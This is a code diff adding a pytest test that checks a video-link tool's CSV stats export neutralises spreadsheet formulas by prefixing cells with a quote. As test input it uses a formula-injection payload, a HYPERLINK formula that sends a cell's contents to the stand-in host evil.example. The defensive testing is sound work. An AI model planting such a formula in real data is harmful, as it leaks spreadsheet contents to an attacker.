@@ -92,3 +92,13 @@ def test_every_command_and_option_has_help() -> None:
             for param in c.params:
                 if isinstance(param, click.Option):
                     assert param.help, f"{c.name} {param.opts}"
+
+
+def test_stats_csv_cells_cannot_be_formulas(run, bundle: Path) -> None:  # type: ignore[no-untyped-def]
+    [video] = json.loads(run("publish", str(bundle), "--title", "T", "--json").stdout)["videos"]
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    made = run("links", "create", video["id"], "--channel", "@x", "--sharer", evil)
+    assert made.exit_code == 0, made.output
+    table = list(csv.DictReader(io.StringIO(run("stats", "--csv").stdout)))
+    row = next(r for r in table if r["sharer"])
+    assert (row["sharer"], row["channel"], row["clicks"]) == ("'" + evil, "'@x", "0")
